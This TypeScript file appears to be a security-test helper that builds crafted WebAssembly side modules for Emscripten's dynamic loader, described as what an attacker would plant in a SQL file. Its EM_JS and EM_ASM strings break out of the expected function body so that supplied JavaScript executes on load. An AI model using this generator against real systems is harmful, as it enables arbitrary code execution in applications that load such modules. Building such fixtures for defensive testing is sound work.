/**
 * WebAssembly libraries in the form that Emscripten's loader accepts, made by hand: what an attacker would write into a
 * SQL file. The format: https://github.com/WebAssembly/tool-conventions/blob/main/DynamicLinking.md
 */
export interface SideModule {
  /** Names of libraries that are loaded before it. */
  readonly needed?: readonly string[];
  /** JavaScript that runs when the exports named `__em_js__…` are evaluated. */
  readonly emJs?: string;
  /** JavaScript that runs when the texts between `__start_em_asm` and `__stop_em_asm` are evaluated. */
  readonly emAsm?: string;
  /** A function imported from the server that the library's constructor calls, with these numbers. */
  readonly calls?: { readonly name: string; readonly values: readonly number[] };
}

const i32 = 0x7f;

export function sideModule({ needed = [], emJs, emAsm, calls }: SideModule): Buffer {
  // The function that is expected here becomes empty, and the code after it runs.
  const text = emJs === undefined ? `}; ${emAsm ?? ''}; {` : `(void)<::>{}; ${emJs}`;
  const data = Buffer.from(`${text}\0`);
  const globals = emJs === undefined ? { __start_em_asm: 0, __stop_em_asm: data.length } : { __em_js__attack: 0 };
  const exported = emJs === undefined && emAsm === undefined ? {} : globals;
  const names = Object.keys(exported);
  return Buffer.concat([
    Buffer.from([0, 0x61, 0x73, 0x6d, 1, 0, 0, 0]),
    section(
      0,
      name('dylink.0'),
      part(1, leb(data.length), leb(0), leb(0), leb(0)),
      needed.length > 0 ? part(2, leb(needed.length), ...needed.map(name)) : [],
    ),
    ...(calls
      ? [section(1, leb(2), [0x60, ...leb(calls.values.length), ...calls.values.map(() => i32), 1, i32], [0x60, 0, 0])]
      : []),
    section(
      2,
      leb(calls ? 3 : 2),
      name('env'),
      name('memory'),
      [2, 0, 0],
      name('env'),
      name('__memory_base'),
      [3, i32, 0],
      calls ? [...name('env'), ...name(calls.name), 0, 0] : [],
    ),
    ...(calls ? [section(3, [1, 1])] : []),
    section(
      6,
      leb(names.length),
      ...Object.values<number>(exported).map((offset) => [i32, 0, 0x41, ...signed(offset), 0x0b]),
    ),
    section(
      7,
      leb(names.length + (calls ? 1 : 0)),
      ...names.flatMap((each, index) => [name(each), [3, ...leb(index + 1)]]),
      calls ? [...name('__wasm_call_ctors'), 0, 1] : [],
    ),
    ...(calls
      ? [
          section(
            10,
            [1],
            sized([0, ...calls.values.flatMap((value) => [0x41, ...signed(value)]), 0x10, 0, 0x1a, 0x0b]),
          ),
        ]
      : []),
    section(11, [1, 0, 0x23, 0, 0x0b], sized([...data])),
  ]);
}

function section(id: number, ...parts: readonly (readonly number[])[]): Buffer {
  return Buffer.from([id, ...sized(parts.flat())]);
}

const part = (id: number, ...parts: readonly (readonly number[])[]) => [id, ...sized(parts.flat())];
const name = (text: string) => sized([...Buffer.from(text)]);
const sized = (bytes: readonly number[]) => [...leb(bytes.length), ...bytes];

function leb(value: number): number[] {
  return value < 0x80 ? [value] : [(value & 0x7f) | 0x80, ...leb(value >>> 7)];
}

function signed(value: number): number[] {
  return value >= -0x40 && value < 0x40 ? [value & 0x7f] : [(value & 0x7f) | 0x80, ...signed(value >> 7)];
}
